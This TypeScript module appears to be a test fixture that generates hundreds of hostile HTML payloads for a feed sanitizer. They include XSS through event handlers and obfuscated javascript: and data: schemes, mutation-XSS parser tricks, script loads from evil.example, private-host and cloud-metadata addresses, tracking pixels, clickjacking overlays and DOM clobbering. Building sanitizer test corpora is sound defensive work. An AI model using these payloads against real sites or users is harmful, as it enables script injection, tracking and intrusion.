import { privateHosts } from "./disguises.ts";
import { foreign } from "./foreign.ts";
import { recent } from "./recent.ts";
import { RUN } from "./run.ts";
import { tricks } from "./tricks.ts";

/** Markup that a feed's author, or whoever has broken in there, may write. All of it is ours or made here. */
export type Payload = {
  readonly name: string;
  readonly html: string;
};

const handlers = (
  "abort animationend animationiteration animationstart appinstalled auxclick beforecopy beforeinput beforeinstallprompt " +
  "beforematch beforetoggle beforexrselect blur cancel canplay canplaythrough change click close command " +
  "contentvisibilityautostatechange contextlost contextmenu copy cuechange cut dblclick drag dragend dragstart drop " +
  "durationchange emptied encrypted ended error focus focusin formdata freeze fullscreenchange gotpointercapture input " +
  "invalid keydown keyup load loadeddata loadedmetadata loadstart lostpointercapture mousedown mouseenter mousemove " +
  "mouseover mouseup paste pause play playing pointercancel pointerdown pointerover pointerrawupdate progress ratechange " +
  "readystatechange reset resize resume scroll scrollend scrollsnapchange search seeked select selectionchange " +
  "slotchange stalled submit suspend timeupdate toggle touchstart track transitioncancel transitionend transitionrun " +
  "transitionstart volumechange waiting webkitanimationend wheel"
).split(" ");

const carriers: readonly ((on: string) => string)[] = [
  (on) => `<img src="https://pictures.example/${on.slice(2, 6)}.png" ${on}="${RUN}">`,
  (on) => `<div ${on}='${RUN}' tabindex=0>a</div>`,
  (on) => `<a href="https://a.example/" ${on.toUpperCase()}=${RUN.replaceAll("|", "&#124;")}>a</a>`,
  (on) => `<details open ${on}="${RUN}"><summary ${on}="${RUN}">a</summary>b</details>`,
  (on) => `<video controls src="https://media.example/a.mp4" ${on}="${RUN}"></video>`,
  (on) =>
    `<svg ${on}="${RUN}"><g ${on}="${RUN}"><text>a</text></g></svg><math ${on}="${RUN}"><mi ${on}="${RUN}">x</mi></math>`,
];

const schemes: readonly (readonly [name: string, url: string])[] = [
  ["javascript", `javascript:${RUN}`],
  ["mixed case", `jAvAsCrIpT:${RUN}`],
  ["a tab", `java\tscript:${RUN}`],
  ["a line", `java\nscript:${RUN}`],
  ["an entity", `java&#115;cript&colon;${RUN}`],
  ["a control", `\u0001javascript:${RUN}`],
  ["a host", `javascript://a.example/%0a${RUN}`],
  ["data html", `data:text/html,<script>${RUN}</script>`],
  ["data svg", `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`],
  ["vbscript", "vbscript:msgbox(1)"],
  ["file", "file:///etc/passwd"],
  ["blob", "blob:https://a.example/1"],
  ["our own page", "chrome-extension://anjmcbffnfmnndjocoiimjkemihnmdjf/options.html"],
  ["the browser's page", "about:config"],
  ["loopback", "http://127.0.0.1/admin"],
  ["loopback in octal", "https://0177.1/admin"],
  ["a router", "https://192.168.1.1/reboot"],
  ["IPv6 loopback", "https://[::ffff:127.0.0.1]/"],
  ["a name at home", "https://router.local/x.png"],
  ["a password", "https://user:secret@pictures.example/a.png"],
];

const escaped = (url: string) => url.replaceAll('"', "&quot;").replaceAll("<", "&lt;");
const places: readonly (readonly [name: string, at: (url: string) => string])[] = [
  ["a link", (url) => `<a href="${url}">a</a>`],
  ["a link in this tab", (url) => `<a href="${url}" target=_self ping="${url}" download>a</a>`],
  ["an image", (url) => `<img src="${url}" alt="a">`],
  ["a late image", (url) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="${url}">`],
  ["a set of images", (url) => `<img srcset="${url} 2x, ${url} 100w">`],
  ["a picture", (url) => `<picture><source srcset="${url}"><img src="${url}"></picture>`],
  [
    "a video",
    (url) => `<video src="${url}" poster="${url}" autoplay><source src="${url}"><track src="${url}" default></video>`,
  ],
  ["sound", (url) => `<audio src="${url}" autoplay preload=auto></audio>`],
  ["a frame", (url) => `<iframe src="${url}"></iframe><embed src="${url}"><object data="${url}"></object>`],
  [
    "a form",
    (url) => `<form action="${url}"><button formaction="${url}">a</button><input type=image src="${url}"></form>`,
  ],
  ["a quote", (url) => `<blockquote cite="${url}">a</blockquote><del cite="${url}">b</del>`],
  [
    "a drawing",
    (url) =>
      `<svg><a xlink:href="${url}" href="${url}"><text>a</text></a><image href="${url}"/><use href="${url}"/></svg>`,
  ],
  [
    "a formula",
    (url) =>
      `<math href="${url}"><mi xlink:href="${url}">x</mi><maction actiontype="statusline" href="${url}">y</maction></math>`,
  ],
  [
    "a style",
    (url) =>
      `<p style="background:url('${url}')">a</p><table background="${url}"><tr><td background="${url}">b</table>`,
  ],
];

/** Markup that is read otherwise the second time, and what HTML has got of late. */
const shapes: Readonly<Record<string, string>> = {
  "noscript attribute": `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">a</p></noscript>`,
  "style in math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;"></mglyph></table></mtext></math>`,
  "form in math": `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src=x:>">`,
  "annotation-xml": `<math><annotation-xml encoding="text/html"><p><img src=x: onerror=${RUN}></annotation-xml></math>`,
  "annotation in svg": `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
  foreignObject: `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe><body onload=${RUN}></foreignObject></svg>`,
  "desc and title": `<svg><desc><style><img src=x: onerror=${RUN}></style></desc><title><img src=x: onerror=${RUN}></title></svg>`,
  "comment ends": `<!--><img src=x: onerror=${RUN}>--><!---><img src=x: onerror=${RUN}>--><!-- --!><img src=x: onerror=${RUN}>`,
  "processing instruction": `<?xml-stylesheet href="javascript:${RUN}"?><?php echo 1 ?><img src=x: onerror=${RUN}>`,
  cdata: `<![CDATA[<img src=x: onerror=${RUN}>]]><svg><![CDATA[<img src=x: onerror=${RUN}>]]></svg>`,
  doctype: `<!DOCTYPE html [<!ENTITY a "<img src=x: onerror=${RUN}>">]>&a;`,
  template: `<template><script>${RUN}</script><img src=x: onerror=${RUN}></template>`,
  "shadow root": `<div><template shadowrootmode=open><style>:host{display:none}</style><img src=x: onerror=${RUN}></template></div>`,
  "nested table": `<table><td><table><script>${RUN}</script><td><img src=x: onerror=${RUN}></table></table>`,
  "select content": `<select><button><selectedcontent></selectedcontent></button><option><img src=x: onerror=${RUN}>a</option></select>`,
  "textarea end": `<textarea></textarea><img src=x: onerror=${RUN}></textarea>`,
  "title end": `<title></title><script>${RUN}</script></title>`,
  "xmp end": `<xmp></xmp><img src=x: onerror=${RUN}></xmp><plaintext><img src=x: onerror=${RUN}>`,
  "iframe text": `<iframe><img src=x: onerror=${RUN}></iframe><noembed></noembed><img src=x: onerror=${RUN}></noembed>`,
  "attribute quotes": `<p title="a" <img src=x: onerror="${RUN}" /onclick='${RUN}'>b<//p><a href="https://a.example/"<b onmouseover=${RUN}>c</a>`,
  "attribute slash": `<img/src=x:/onerror=${RUN}><svg/onload=${RUN}><body/onload=${RUN}>`,
  "equals first": `<p =onclick=${RUN} "onclick=${RUN}>a</p>`,
  "null in a name": `<scr\u0000ipt>${RUN}</scr\u0000ipt><img src=x: on\u0000error=${RUN}>`,
  "half a tag": `<img src=x: onerror=${RUN} <b`,
  "late head": `<head><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/"></head><body onload=${RUN} background=https://evil.example/b.png>`,
  "upper case": `<SCRIPT SRC=https://evil.example/a.js></SCRIPT><IMG SRC=x: ONERROR=${RUN}><IFRAME SRCDOC="<script>${RUN}</script>">`,
};

const elements: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script><script src="https://evil.example/a.js"></script><script type=module>${RUN}</script>`,
  "script kinds": `<script type=importmap>{"imports":{"a":"https://evil.example/"}}</script><script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
  style: `<style>@import "https://evil.example/s.css"; body{display:none} @font-face{font-family:a;src:url(https://evil.example/f.woff)}</style>`,
  "link relations": `<link rel=stylesheet href="https://evil.example/l.css"><link rel=preload as=script href="https://evil.example/p.js"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="https://evil.example"><link rel=manifest href="https://evil.example/m"><link rel=icon href="https://evil.example/i">`,
  meta: `<meta http-equiv=refresh content="0;url=https://evil.example/gone"><meta http-equiv=content-security-policy content="img-src *"><meta name=referrer content=unsafe-url>`,
  base: `<base href="https://evil.example/" target=_top><a href="x">a</a><img src="y.png">`,
  frames: `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe><frameset><frame src="https://evil.example/f"></frameset>`,
  fencedframe: `<fencedframe src="https://evil.example/"></fencedframe><portal src="https://evil.example/"></portal><webview src="https://evil.example/"></webview><browser src="https://evil.example/"></browser>`,
  plugins: `<object data="https://evil.example/o"><param name=src value="https://evil.example/p">fallback</object><embed src="https://evil.example/e"><applet code=a archive="https://evil.example/a.jar"></applet>`,
  form: `<form action="https://evil.example/form" id="app"><input name="children" autofocus onfocus="${RUN}"><textarea autofocus></textarea><select><option>a</select><button formaction="javascript:${RUN}">a</button><img name="nextSibling" src="x:"></form><input form=app type=submit>`,
  "form parts": `<fieldset><legend>a</legend><label>b<input type=password></label><output>c</output><progress>d</progress><meter>e</meter><datalist><option>f</datalist></fieldset><isindex action="https://evil.example/">`,
  dialog: `<dialog open>a<button popovertarget=app commandfor=app command=show-modal>b</button></dialog><div popover=auto id=pop>c</div>`,
  marquee: `<marquee onstart="${RUN}" loop=1>a</marquee><blink>b</blink><bgsound src="https://evil.example/s.wav"><keygen name=a><layer src="https://evil.example/">c</layer>`,
  "custom element": `<my-element is="app-root" onclick="${RUN}">a</my-element><button is="x-y">b</button><slot name=a>c</slot>`,
  "image map": `<img src="https://pictures.example/m.png" usemap="#m" ismap><map name=m><area shape=default href="javascript:${RUN}"><area href="https://evil.example/" ping="https://evil.example/ping"></map>`,
  "drawing acts": `<svg onload="${RUN}"><script>${RUN}</script><script href="https://evil.example/a.js"/><animate onbegin="${RUN}" attributeName=x dur=1s><set attributeName=href to="javascript:${RUN}"><a><animate attributeName=href values="javascript:${RUN}"/><text>a</text></a></svg>`,
  "drawing loads": `<svg><use href="https://evil.example/u.svg#a"/><image href="https://evil.example/i.svg"/><feImage href="https://evil.example/f"/><filter id=f><feImage xlink:href="https://evil.example/x"/></filter><rect filter="url(https://evil.example/f.svg#f)" style="fill:url(https://evil.example/g)"/></svg>`,
  "formula acts": `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${RUN}">a</maction><mtext><script>${RUN}</script></mtext><semantics><annotation-xml encoding="application/xhtml+xml"><script>${RUN}</script></annotation-xml></semantics></math>`,
  "portal attributes": `<p slot=a part=b exportparts=c is=x-y nonce=d inert contenteditable draggable=true accesskey=x tabindex=9 hidden itemscope enterkeyhint=go virtualkeyboardpolicy=manual>a</p>`,
  "link manners": `<a href="https://a.example/" ping="https://evil.example/ping" target=_top rel=opener referrerpolicy=unsafe-url attributionsrc="https://evil.example/a" download>a</a>`,
  "image manners": `<img src="https://pictures.example/a.png" referrerpolicy=unsafe-url crossorigin=use-credentials loading=eager fetchpriority=high attributionsrc="https://evil.example/a" lowsrc="https://evil.example/l.png" dynsrc="https://evil.example/d" longdesc="javascript:${RUN}" browsingtopics sharedstoragewritable>`,
};

/** What a redirect of a picture must not reach. */
export const byRedirect = "/by-redirect.png";
const sentTo = (...hosts: readonly string[]) =>
  hosts
    .map((host) => `https://pictures.example/to?${encodeURIComponent(host + byRedirect)}`)
    .map((url) => `<img src="${url}" alt="a"><video controls src="${url}" poster="${url}"></video>`)
    .join("");

/** A picture that may be loaded: where it is not asked for, that nothing else was proves nothing. */
export const control: Payload = { name: "control", html: '<img src="https://pictures.example/control.png" alt="a">' };

/** What tells on the reader, disguises, or takes the place of something of ours. */
const leaks: Readonly<Record<string, string>> = {
  redirects: sentTo("https://192.168.1.1", "https://nas.local", "http://pictures.example", "http://10.0.0.1"),
  "pixel by style": `<img src="https://pictures.example/pixel-s.gif" style="width:1px;height:1px"><img src="https://pictures.example/pixel-n.gif" style="color:red;display:none!important"><img src="https://pictures.example/pixel-h.gif" hidden><img src="https://pictures.example/pixel-v.gif" style="visibility: hidden"><iframe src="https://pictures.example/pixel.html" style="width:0;height:0"></iframe>`,
  "plain http": `<img src="http://pictures.example/plain.png"><video src="http://media.example/a.mp4" poster="http://pictures.example/p.png"></video>`,
  pixel: `<img src="https://pictures.example/pixel.gif" width="1" height="1"><img src="https://pictures.example/pixel2.gif" width=0 height=0><img width="1px" height="2px" src="https://pictures.example/pixel3.gif">`,
  autoplay: `<audio src="https://media.example/a.mp3" autoplay></audio><video src="https://media.example/a.mp4" autoplay muted loop preload=auto playsinline></video>`,
  "ids of ours": `<a id="app" name="body">a</a><div id="data-post" class="post is-unread" data-post="1" data-body data-open>b</div><p id="__proto__">c</p><img name="cookie" src="https://pictures.example/n.png"><a id=location></a>`,
  "classes of ours": `<p class="embed-card button primary problem toast masthead">a</p><a class="embed-card" href="https://evil.example/">Open on YouTube</a>`,
  "over the page": `<div style="position:fixed;inset:0;z-index:9999;background:red;opacity:0"><a href="https://evil.example/">x</a></div>`,
  "styled colours": `<font color=red size=7 face="https://evil.example/f">a</font><table bgcolor=red width=9999 height=9999><td width=9999 nowrap>b</table><p align=center style="color:expression(${RUN})">c</p>`,
  "formula over the page": `<math><mspace width="9999em" height="9999em"/><mpadded voffset="-999em" lspace="999em"><mi mathsize="9999em" mathbackground="url(https://evil.example/)">x</mi></mpadded></math>`,
  "password in a link": `<a href="https://bank.example@evil.example/">bank</a><a href="https://user:pass@a.example/">b</a>`,
  "name of a frame": `<a href="https://a.example/" target="app">a</a><iframe name="app" src="about:blank"></iframe>`,
  "private hosts": `<img src="https://10.0.0.1/a.png"><img src="https://[::1]/a.png"><img src="https://2130706433/a.png"><img src="https://printer/a.png"><img srcset="https://169.254.169.254/latest 1x, https://100.64.0.1/b.png 2x"><video poster="https://nas.lan/p.png" src="https://127.1/v.mp4"></video>`,
  candidates: `<img srcset="javascript:${RUN} 1x, https://pictures.example/w_200,c_fill/a.png 2x,,https://127.0.0.1/x.png 3x">`,
  "picture data": `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><img src="data:text/html,<script>${RUN}</script>"><img src="data:image/png;base64,iVBORw0KGgo=">`,
  bidi: `<a href="https://a.example/\u202egpj.exe">\u202eexe.jpg</a><p dir=ltr>\u2066a</p>`,
  marks: `<a href="#app">a</a><a href="#">b</a><a href="#top">c</a><a href="options.html#/settings">d</a><a href="?x">e</a>`,
};

const deep = 300;
/** More than we show; both say what becomes of them. */
const tooMuch: Readonly<Record<string, string>> = {
  "nested too deep": `${"<div>".repeat(deep)}<b>deep text</b>${"</div>".repeat(deep)}`,
  "too many elements": "<i>a</i>".repeat(60_000),
  "too many attributes": `<p ${Array.from({ length: 5000 }, (_, i) => `a${i}=1`).join(" ")} onclick=${RUN}>a</p>`,
  "never closed": "<b><div><table><ul><li>".repeat(2000),
  "nested behind end tags of nothing": "<div></x>".repeat(100_000),
  "nested behind a comment": `<!-- --!>${"<div>".repeat(100_000)}<!-- -->`,
};

const named = (kind: string, payloads: Readonly<Record<string, string>>): readonly Payload[] =>
  Object.entries(payloads).map(([name, html]) => ({ name: `${kind}: ${name}`, html }));

/** Every scheme in every place, scheme by scheme. */
const addresses: readonly Payload[] = schemes.flatMap(([scheme, url]) =>
  places.map(([place, at]) => ({ name: `address: ${scheme} in ${place}`, html: at(escaped(url)) })),
);

/** Every scheme once and every place at least once. */
const someAddresses: readonly Payload[] = Array.from(
  { length: Math.max(schemes.length, places.length) },
  (_, index) => addresses[(index % schemes.length) * places.length + (index % places.length)],
).filter((payload) => payload !== undefined);

/** Some of each kind, for every run of the tests. */
export const few: readonly Payload[] = [
  ...someAddresses,
  ...named("shape", shapes).slice(0, 6),
  ...named("element", elements).filter((_, index) => index % 2 === 0),
  ...named("leak", leaks).slice(0, 13),
  ...named("too much", tooMuch).slice(0, 3),
];

/** Every payload of ours. */
export const payloads: readonly Payload[] = [
  ...handlers.map((event, index) => ({
    name: `handler: ${event}`,
    html: carriers[index % carriers.length]?.(`on${event}`) ?? "",
  })),
  ...addresses,
  ...named("shape", shapes),
  ...named("element", elements),
  ...named("leak", leaks),
  ...named("too much", tooMuch),
  ...named("recent", recent),
  ...named("foreign", foreign),
  ...named("trick", tricks),
  ...named("private host", privateHosts),
];
